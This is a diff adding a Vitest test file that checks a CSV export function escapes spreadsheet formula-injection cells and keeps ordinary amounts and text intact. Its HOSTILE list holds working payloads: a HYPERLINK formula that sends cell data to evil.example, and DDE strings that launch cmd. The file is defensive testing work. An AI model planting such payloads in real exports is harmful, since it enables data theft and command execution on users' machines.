@@ -1,0 +1,38 @@
+import { describe, expect, it } from "vitest";
+import { parse } from "csv-parse/sync";
+import { csvDownload } from "./csv";
+
+const HOSTILE = [
+  "=HYPERLINK(\"https://evil.example?\"&A1,\"open\")",
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "\uFF1D1+1",
+  "-",
+];
+
+async function cells(rows: unknown[][], stream: boolean): Promise<string[][]> {
+  const source = stream
+    ? (async function* () {
+        yield* rows;
+      })()
+    : rows;
+  const text = await csvDownload(source, rows[0]!.map((_, i) => `c${i}`), "t.csv").text();
+  return parse(text, { from_line: 2, relax_column_count: true }) as string[][];
+}
+
+describe("csvDownload", () => {
+  for (const stream of [false, true]) {
+    it(`neutralises cells a spreadsheet would run as formulas (${stream ? "streamed" : "whole"})`, async () => {
+      const [row] = await cells([HOSTILE], stream);
+      row!.forEach((cell, i) => expect(cell).toBe(`'${HOSTILE[i]}`));
+    });
+
+    it(`keeps amounts, negative ones included, and ordinary text (${stream ? "streamed" : "whole"})`, async () => {
+      const [row] = await cells([["-12.50", -7, "12.50", "ch_1", "ref-1", "a=b", "", "-0.5"]], stream);
+      expect(row).toEqual(["-12.50", "-7", "12.50", "ch_1", "ref-1", "a=b", "", "-0.5"]);
+    });
+  }
+});
